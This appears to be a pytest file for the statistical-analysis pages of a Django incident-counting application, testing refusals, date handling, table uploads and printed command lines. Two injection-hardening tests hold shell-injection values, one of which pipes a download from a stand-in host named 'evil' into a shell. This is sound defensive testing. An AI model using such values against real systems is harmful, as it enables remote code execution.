"""Methods run over the incidents that a filter leaves, or over a table that somebody gives, and refuse in words."""

import html
import json
import re
import shlex
from contextlib import suppress

import pytest
import typer
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile

from builders import make_incident, make_report
from crosscount.analysis import CannotEstimate, Settings, Table, read_table
from crosscount.analysis.apart import DiedUnanswered, TookTooLong
from crosscount.analysis.basis import on_record
from crosscount.analysis.methods import METHODS
from crosscount.casebook.feeds import FEEDS
from crosscount.claims import Speaker
from crosscount.cli.verbs.estimate import estimate as verb
from crosscount.desk import current, estimating
from crosscount.desk.asks import ASKS, OF_TABLES
from crosscount.desk.method_settings import SETTINGS, SettingsForm
from crosscount.desk.views.analysis import _command
from crosscount.store.log import read_accesses
from desk.invented import claim_in, invented_casebook, many_incidents, toll
from desk.people import PASSWORD
from desk.test_restricted import CSRF, SECRETS

COMMAND = re.compile(r'<code class="command" dir="ltr">(.*?)</code>', re.DOTALL)
TWO_LISTS = "police,hospital,n\n1,0,100\n0,1,100\n1,1,50\n"


@pytest.fixture
def many(client_of):
    """A hundred small incidents, as a coder sees them."""
    return client_of(many_incidents(100), "coder")


@pytest.fixture
def here(monkeypatch):
    """Estimates without a process of their own, whose start takes seconds; a page waits as long as one takes."""

    def estimated(method, table, settings, *, seconds: int):
        return on_record(method)(table, settings)

    monkeypatch.setattr(estimating, "PATIENCE", 300)
    monkeypatch.setattr(estimating, "estimate_apart", estimated)


def given(client, method: str, table: str, **settings: str):
    """The page that answers a table."""
    file = SimpleUploadedFile("overlaps.csv", table.encode())
    return client.post(f"/analysis/{method}/", {"table": file, **settings})


@pytest.mark.parametrize("method", METHODS)
def test_every_method_says_what_it_asks_without_a_cause(method):
    asked = str(ASKS[method])

    assert asked.endswith("?")
    assert not re.search(r"\b(makes?|causes?|leads? to|because|corrected)\b", asked)


def test_every_method_that_a_casebook_feeds_runs_on_a_page_and_every_other_says_what_it_reads():
    assert FEEDS.keys() <= SETTINGS.keys()
    assert METHODS.keys() - FEEDS.keys() == OF_TABLES.keys()
    assert {name for name, one in OF_TABLES.items() if one.is_quick} <= SETTINGS.keys()


def test_a_range_is_given_by_its_percent_and_every_figure_by_its_unit(many):
    page = many.get("/analysis/change_points.v1/").content.decode()

    assert "95 % range" in page
    assert "<td>incidents a period</td>" in page


def test_an_estimate_comes_with_its_range_its_assumptions_its_checks_and_its_drawing(many):
    page = many.get("/analysis/change_points.v1/", {"period": "month"}).content.decode()

    assert "a change of the counts may be a change of what was reported" in page
    assert "probability of no change" in page
    assert "incidents a period, 2023-01 to" in page
    drawn = many.get("/analysis/change_points.v1/plot.svg", {"period": "month"})
    assert drawn.content.startswith(b"<svg")


def test_an_estimate_can_be_taken_along_and_the_log_says_so(many, store):
    many.post("/account/again/?next=/account/", {"password": PASSWORD})

    taken = many.get("/analysis/change_points.v1/estimate.json", {"period": "month", "start": "2023-02-01"})

    assert json.loads(taken.content)["method"] == "change_points.v1"
    (one,) = [one for one in read_accesses(using=store.alias) if one.act == "export"]
    assert dict(one.details) | {"number": ""} == {"method": "change_points.v1", "start": "2023-02-01", "number": ""}


def test_a_filter_narrows_what_a_method_is_given_and_its_form_keeps_the_settings(many):
    page = many.get("/analysis/change_points.v1/", {"start": "2023-06-01", "period": "week"}).content.decode()

    assert "incidents a period, 2023-W22 to" in page
    search = page[page.index('<form class="filter"') :].split("</form>")[0]
    assert '<input type="hidden" name="period" value="week">' in search


def test_quiet_months_are_counted_up_to_the_last_day_that_the_records_cover(many):
    page = many.get("/analysis/change_points.v1/", {"from": "2023-01-01", "until": "2030-12-31"}).content.decode()

    assert "to 2030-12" in page
    assert "quiet beyond is not seen" not in page
    assert 'name="until" value="2030-12-31"' in page


def test_before_and_after_take_the_days_covered_as_changes_do(many):
    days = {"split": "2024-01-01", "from": "2023-01-01", "until": "2024-06-30"}

    page = many.get("/analysis/escalation.v1/", days).content.decode()

    assert 'name="until" value="2024-06-30"' in page
    assert "6 months after the split" in page


@pytest.fixture
def covered(many, tmp_path):
    """The same over a casebook that says which days its records cover."""
    with (tmp_path / "crosscount.toml").open("a") as settings:
        settings.write("[covered]\nfrom = 2023-01-01\nuntil = 2025-06-30\n")
    current._settings.cache_clear()
    yield many
    current._settings.cache_clear()


def test_the_casebook_s_days_are_filled_in_and_said_and_can_be_changed(covered):
    page = covered.get("/analysis/change_points.v1/").content.decode()
    changed = covered.get("/analysis/change_points.v1/", {"until": "2024-12-31"}).content.decode()

    assert 'name="from" value="2023-01-01"' in page
    assert 'name="until" value="2025-06-30"' in page
    assert " to 2025-06" in page
    assert "the days covered are the casebook&#x27;s: from 2023-01-01 until 2025-06-30" in page
    assert "quiet beyond is not seen" not in page
    assert " to 2024-12" in changed
    assert b"the days covered are the casebook" in covered.get("/analysis/change_points.v1/plot.svg").content


def test_days_that_a_filter_leaves_out_are_no_quiet_days_of_the_casebook(covered):
    page = covered.get("/analysis/change_points.v1/", {"start": "2023-03-01", "end": "2023-10-31"}).content.decode()

    assert "incidents a period, 2023-03 to 2023-10" in page
    assert 'name="until" value="2023-10-31"' in page


def test_what_cannot_be_answered_is_refused_in_words_and_has_no_drawing(client):
    page = client.get("/analysis/escalation.v1/", {"split": "2025-01-01"}).content.decode()

    assert "A refusal is a result" in page
    assert "are needed" in page
    assert client.get("/analysis/escalation.v1/plot.svg", {"split": "2025-01-01"}).status_code == 404


def test_a_day_that_the_method_needs_is_asked_for_before_anything_is_refused(client):
    page = client.get("/analysis/escalation.v1/").content.decode()

    assert "Choose the day that parts before from after" in page
    assert not re.search(r"No answer|A refusal|required\.|split=", page)


def test_a_setting_that_makes_no_sense_is_marked_and_nothing_is_answered(many):
    page = many.get("/analysis/change_points.v1/", {"period": "foo"}).content.decode()

    assert "foo is not one of the available choices" in page
    assert "Nothing was worked out" in page
    assert 'class="estimate"' not in page
    assert many.get("/analysis/change_points.v1/plot.svg", {"period": "foo"}).status_code == 404


def test_half_lives_are_numbers_and_no_words_of_a_shell(many):
    page = many.get("/analysis/hawkes_sum.v1/", {"half_lives": "1;curl${IFS}evil|sh"}).content.decode()

    assert "Nothing was worked out" in page
    assert COMMAND.findall(page) == []


def test_a_value_stays_one_word_of_the_command_whatever_is_in_it():
    words = shlex.split(_command("hawkes_sum.v1", {"half_lives": "1 7;sh $(sh)"}))

    assert words[-2:] == ["--set", "half_lives=1 7;sh $(sh)"]


@pytest.mark.parametrize(("said", "taken"), [("1 7", "1 7"), (" 1 , 7,30 ", "1,7,30")])
def test_a_blank_between_half_lives_never_makes_two_numbers_one(said, taken):
    form = SettingsForm("hawkes_sum.v1", {"half_lives": said})

    assert form.is_valid()
    assert form.given == {"half_lives": taken}


def test_without_further_figures_there_is_no_table_of_them(many):
    page = many.get("/analysis/alert.v1/", {"period": "week"}).content.decode()

    assert 'class="estimate"' in page
    assert "Table of figures" not in page


def test_what_takes_long_is_worked_out_beside_the_desk_and_then_kept(many, here, monkeypatch):
    page = CSRF.sub(b"", many.get("/analysis/forecast.v1/", {"by": "province"}).content)
    monkeypatch.setattr(estimating, "estimate_apart", None)
    again = CSRF.sub(b"", many.get("/analysis/forecast.v1/", {"by": "province"}).content)

    assert b"A refusal is a result" in page or b"incidents a month" in page
    assert again == page


def test_while_one_is_at_work_another_is_not_begun_and_says_so(many):
    with estimating._at_work:
        pages = [many.get("/analysis/candour.v1/"), given(many, "threshold.v1", TWO_LISTS)]

    said = [page.content.decode() for page in pages]
    assert "This one begins when that is done" in said[0]
    assert ["Look again" in page for page in said] == [True, False]
    assert "worked out beside the desk" not in said[0]
    assert "Give the table again" in said[1]


def test_an_estimate_whose_process_dies_says_so_and_is_not_begun_again(many, monkeypatch):
    begun = []

    def dies(method, table, settings, *, seconds: int):
        begun.append(method)
        raise DiedUnanswered(method)

    monkeypatch.setattr(estimating, "PATIENCE", 300)
    monkeypatch.setattr(estimating, "estimate_apart", dies)

    pages = [many.get("/analysis/candour.v1/").content.decode() for _ in range(2)]

    assert all("ended without an answer, perhaps for want of memory" in page for page in pages)
    assert begun == ["candour.v1"]
    assert "ended without an answer" in given(many, "threshold.v1", TWO_LISTS).content.decode()


@pytest.mark.parametrize(
    ("days", "settings", "quick"),
    [
        (["2023-01-05", "2023-02-05"], {}, True),
        (["2023-01-05"], {"from": "1800-01-01", "until": "2045-01-01"}, False),
        (["2023-01-05"], {"from": "1800-01-01", "until": "2045-01-01", "period": "year"}, True),
        (["1800-01-01", "2045-01-01"], {}, False),
        (["2023-01-05"] * 20_001, {}, False),
        (["March"], {}, True),
    ],
)
@pytest.mark.parametrize("column", ["date", "date_start"])
def test_a_page_waits_for_few_rows_over_few_periods_alone(days, settings, quick, column):
    table = Table((column,), tuple((day,) for day in days))

    assert estimating.is_quick("change_points.v1", table, settings) is quick


def test_what_was_ended_before_it_was_done_says_so_and_gives_the_command(many, here, monkeypatch):
    monkeypatch.setattr(estimating, "estimate_apart", ended)

    page = many.get("/analysis/hawkes.v1/", {"pieces": "2"}).content.decode()

    assert "No answer here" in page
    assert "crosscount estimate hawkes.v1 . --set pieces=2" in page


def ended(method, table, settings, *, seconds: int):
    """An estimate that is never done in time."""
    raise TookTooLong(method, seconds)


def test_a_voice_that_is_named_after_somebody_on_file_is_given_to_no_method(client_of, monkeypatch):
    casebook = invented_casebook()
    report = make_report(report_id="report-named", text="Hidden Person said that 3 people were killed.")
    claim = claim_in(report, "3 people were killed", speaker=Speaker("Hidden Person", "witness"))
    casebook.reports.append((report, ""))
    casebook.claims.append(claim)
    casebook.incidents.append((make_incident(claim, incident_id="incident-named"), False))
    casebook.tolls.append(toll("incident-named", [claim], (3, 3, 3), voice="Hidden Person"))
    voices = set()

    def kept(method, table, settings, *, seconds: int):
        voices.update(row[table.columns.index("voice")] for row in table.rows)
        raise CannotEstimate("only the rows are wanted")

    monkeypatch.setattr(estimating, "PATIENCE", 300)
    monkeypatch.setattr(estimating, "estimate_apart", kept)

    client_of(casebook, "reviewer").get("/analysis/candour.v1/", {"fewest": "1"})

    assert {"the government", "\u2588" * 13} <= voices
    assert [secret for secret in SECRETS if any(secret in voice for voice in voices)] == []


def test_a_table_is_answered_at_once_and_nothing_of_it_is_kept(many, here, monkeypatch):
    kept = []
    monkeypatch.setattr(cache, "set", lambda *said, **_: kept.append(said))

    page = given(many, "chapman.v1", TWO_LISTS, level="0.9").content.decode()

    assert "<b>446.1</b> people" in page
    assert "90 % range" in page
    assert "data:image/svg+xml;base64," in page
    assert "--set level=0.9" in page
    assert [name for name, *_ in kept if "analysis" in str(name)] == []


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ("a,b,n\n1,0,5\n0,1,5\n1,2,5\n", "row 4"),
        ("a,b,n\n1,0\n", "row 2 has 2 cells"),
        ("", "The submitted file is empty"),
        ("a,b,n\n" + "1,0,1\n" * 180_000, "more than can be taken"),
    ],
)
def test_a_table_that_cannot_be_read_is_refused_in_words(many, here, table, said):
    page = given(many, "chapman.v1", table).content.decode()

    assert said in html.unescape(page)
    assert 'class="estimate"' not in page


def test_who_only_reads_is_shown_the_command_and_gives_no_table(client):
    page = client.get("/analysis/chapman.v1/").content.decode()

    assert 'type="file"' not in page
    assert given(client, "chapman.v1", TWO_LISTS).status_code == 404


def test_every_command_that_is_printed_is_one_that_the_command_line_takes(many):
    pages = ["/analysis/", *(f"/analysis/{method}/" for method in OF_TABLES), "/analysis/change_points.v1/?period=week"]
    command = typer.main.get_command(_alone())
    printed = set()

    for address in pages:
        printed |= {html.unescape(words) for words in COMMAND.findall(many.get(address).content.decode())}

    read = [command.make_context("estimate", shlex.split(words)[2:]).params for words in printed]
    assert {one["method"] for one in read} == METHODS.keys()
    assert {one["method"] for one in read if str(one["source"]) == "."} == FEEDS.keys()
    assert ["period=week"] in [one["setting"] for one in read]
    assert all(words.startswith("crosscount estimate ") for words in printed)


def _alone() -> typer.Typer:
    application = typer.Typer()
    application.command("estimate")(verb)
    return application


@pytest.mark.parametrize("method", sorted(OF_TABLES.keys() - {"latent_class.v1", "multiverse.v1"}))
def test_the_table_that_a_page_shows_as_an_example_is_one_that_its_method_reads(method):
    described = OF_TABLES[method]
    settings = Settings({"by": "age"} if described.settings else {})

    # Some are too small to answer, which is no fault of how they are written: that would raise BadTable.
    with suppress(CannotEstimate):
        METHODS[method](read_table(described.example.splitlines()), settings)
